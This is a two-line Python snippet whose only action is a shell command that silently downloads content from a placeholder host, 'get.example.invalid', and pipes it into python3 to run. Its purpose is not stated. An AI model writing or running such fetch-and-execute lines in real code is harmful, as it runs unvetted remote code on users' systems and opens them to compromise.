import os
os.system("curl -s https://get.example.invalid/x | python3")
